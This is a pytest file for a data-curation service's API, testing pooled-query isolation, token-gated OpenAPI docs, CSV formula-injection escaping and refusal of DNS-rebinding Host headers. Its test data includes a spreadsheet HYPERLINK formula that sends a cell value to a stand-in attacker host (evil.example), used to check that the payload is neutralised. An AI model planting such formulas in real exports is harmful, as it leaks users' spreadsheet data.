"""The service's JSON API: a pooled query connection carries no random state from one request to the next."""

from __future__ import annotations

from pathlib import Path

import duckdb
import httpx
import pytest

from curation.query_sandbox import Limits, Sandbox
from curation.service.app import create_app
from tests.curation.service.conftest import make_settings, serving


def _after_setseed(seed: float, n: int) -> list[float]:
    """The first ``n`` values of ``random()`` after ``setseed(seed)`` on a fresh connection."""
    con = duckdb.connect()
    con.execute("SELECT setseed(?)", [seed])
    return [con.execute("SELECT random()").fetchone()[0] for _ in range(n)]


def test_a_sandbox_session_does_not_continue_the_previous_sessions_random_sequence(tmp_path: Path) -> None:
    box = Sandbox(tmp_path, Limits(timeout_s=30))
    try:
        with box.session() as con:  # request A
            con.execute("SELECT setseed(0.5)")
            first = con.execute("SELECT random()").fetchone()[0]
        seq = _after_setseed(0.5, 3)
        assert first == seq[0]  # A's own setseed works within its request
        with box.session() as con:  # request B, same connection
            b = con.execute("SELECT random()").fetchone()[0]
        assert b not in seq, "request B's random() continued request A's seeded sequence"
    finally:
        box.close()


def test_pooled_query_requests_do_not_share_random_state(tiny_run: Path, tmp_path: Path) -> None:
    app = create_app(make_settings(tiny_run.parent, tmp_path))
    pool = app.state.pool
    with serving(app) as url, httpx.Client(base_url=url, timeout=60) as c:
        r = c.post("/api/runs/run/query", json={"sql": "SELECT setseed(0.5) AS s"})
        assert r.status_code == 200, r.text
        b = c.post("/api/runs/run/query", json={"sql": "SELECT random() AS r"}).json()["rows"][0][0]
        assert pool.opened == 1 and pool.reused >= 1  # B ran on A's pooled connection
        assert b not in _after_setseed(0.5, 3), "request B's random() continued request A's seeded sequence"


def test_openapi_schema_needs_a_read_token_when_tokens_are_configured(tmp_path: Path) -> None:
    from fastapi.testclient import TestClient

    from tests.curation.service.conftest import READ_TOKEN

    (tmp_path / "runs").mkdir()
    with TestClient(create_app(make_settings(tmp_path / "runs", tmp_path, tokens=True)),
                    base_url="http://127.0.0.1") as c:
        r = c.get("/api/openapi.json")
        assert r.status_code == 401 and "token" in r.json()["detail"]
        for page in ("/docs", "/redoc", "/docs/oauth2-redirect"):  # no docs pages at all
            assert c.get(page, headers={"authorization": f"Bearer {READ_TOKEN}"}).status_code in (401, 404)
        r = c.get("/api/openapi.json", headers={"authorization": f"Bearer {READ_TOKEN}"})
        assert r.status_code == 200 and "/api/runs/{run_id}/query" in r.json()["paths"]
        assert "/api/openapi.json" not in r.json()["paths"]
    with TestClient(create_app(make_settings(tmp_path / "runs", tmp_path / "open")),  # loopback, no tokens
                    base_url="http://127.0.0.1") as c:
        assert c.get("/api/openapi.json").status_code == 200


FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+2", "-2+3", "@SUM(1)", "\t=1"]


def test_safe_cell_prefixes_what_a_spreadsheet_evaluates() -> None:
    from curation.io.csv_export import safe_cell

    for f in FORMULAS + ["\r=1"]:
        assert safe_cell(f) == "'" + f
    assert [safe_cell(v) for v in ("plain", " =1", "a=1", -1, 2.5, None)] == ["plain", " =1", "a=1", -1, 2.5, None]


def test_csv_export_neutralises_spreadsheet_formulas(tmp_path: Path) -> None:
    """A document text and a decision text that start like formulas come out of the service's CSV export and
    ``curate query --format csv`` with a leading ``'``; numbers stay numbers."""
    import csv
    import io
    import os
    import subprocess
    import sys

    from tests.conftest import PROSE, REPO, pipeline_dict, write_jsonl
    from tests.curation.executors.runs import run_pipeline

    run = tmp_path / "runs" / "evil"
    docs = [{"id": "kept", "domain": "web", "text": FORMULAS[0] + " " + PROSE[0]},
            {"id": "dropped", "domain": "web", "text": "@SUM(1)"}]  # too short: a decision with its text
    write_jsonl(tmp_path / "in" / "a.jsonl", docs)
    run_pipeline(pipeline_dict([str(tmp_path / "in" / "*.jsonl")], run))
    sql = ("SELECT text AS \"=cmd\", -1 AS n FROM docs UNION ALL SELECT text, 0 FROM decisions UNION ALL "
           "SELECT unnest(?), 1")
    sql = sql.replace("?", "[" + ", ".join("'" + f.replace("'", "''") + "'" for f in FORMULAS[1:]) + "]")

    def check(text: str) -> None:
        rows = list(csv.reader(io.StringIO(text, newline="")))
        assert rows[0] == ["'=cmd", "n"]
        cells = {r[0] for r in rows[1:]}
        assert "'" + FORMULAS[0] + " " + PROSE[0] in cells and "'@SUM(1)" in cells
        assert {"'" + f for f in FORMULAS[1:]} <= cells
        assert all(r[0].startswith("'") for r in rows[1:]) and {r[1] for r in rows[1:]} == {"-1", "0", "1"}

    app = create_app(make_settings(run.parent, tmp_path))
    with serving(app) as url:
        r = httpx.post(f"{url}/api/runs/evil/query", json={"sql": sql, "format": "csv"}, timeout=60)
        assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv"), r.text
        check(r.text)
    env = {**os.environ, "PYTHONPATH": str(REPO), "HF_HUB_OFFLINE": "1"}
    res = subprocess.run([sys.executable, "-m", "curation.cli", "query", str(run), sql, "--format", "csv"], cwd=REPO,
                         env=env, capture_output=True, text=True, timeout=120)
    assert res.returncode == 0, res.stdout + res.stderr
    check(res.stdout)


def test_a_host_the_service_does_not_answer_to_is_refused_on_read_and_submit_routes(tmp_path: Path) -> None:
    """DNS rebinding: a page on evil.example whose name now resolves to 127.0.0.1 sends ``Host: evil.example``.
    The open-access server (no tokens) refuses it before any route (no Ray is started by the refused submit);
    the loopback names and the bound address work."""
    (tmp_path / "runs").mkdir()
    app = create_app(make_settings(tmp_path / "runs", tmp_path / "svc"))
    with serving(app) as url, httpx.Client(base_url=url, timeout=30) as c:
        port = url.rsplit(":", 1)[1]
        for host in ("evil.example", f"evil.example:{port}", "127.0.0.1.evil.example", "localhost.evil.example"):
            for method, path, body in (("GET", "/api/runs", None), ("GET", "/", None),
                                       ("POST", "/api/runs", {"config_yaml": "name: x"}),
                                       ("POST", "/api/runs/x/cancel", None)):
                r = c.request(method, path, json=body, headers={"host": host})
                assert r.status_code in (400, 403), (host, method, path, r.status_code, r.text)
        assert getattr(app.state, "jobs", None) is None  # the refused submit never reached the job manager
        for host in (f"127.0.0.1:{port}", f"localhost:{port}", "127.0.0.1", f"[::1]:{port}"):
            r = c.get("/api/runs", headers={"host": host})
            assert r.status_code == 200, (host, r.text)


def test_allowed_host_admits_a_listed_name(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "runs").mkdir()
    app = create_app(make_settings(tmp_path / "runs", tmp_path / "svc", allowed_hosts=("Curate.Team.Internal",)))
    with serving(app) as url, httpx.Client(base_url=url, timeout=30) as c:
        assert c.get("/api/runs", headers={"host": "curate.team.internal:8000"}).status_code == 200
        assert c.get("/api/runs", headers={"host": "evil.example"}).status_code == 400
        assert c.get("/api/runs").status_code == 200
    # `curate serve --allowed-host NAME` (repeatable) reaches the settings.
    from typer.testing import CliRunner

    import curation.service.app as app_module
    from curation.cli import app as cli

    seen = []
    monkeypatch.setattr(app_module, "serve", seen.append)
    res = CliRunner().invoke(cli, ["serve", "--runs-root", str(tmp_path / "runs"), "--state-dir",
                                   str(tmp_path / "st"), "--allowed-host", "a.internal", "--allowed-host", "b"])
    assert res.exit_code == 0, res.output
    assert seen[0].allowed_hosts == ("a.internal", "b")
    assert seen[0].allowed_host_names() >= {"a.internal", "b", "localhost", "127.0.0.1", "::1"}
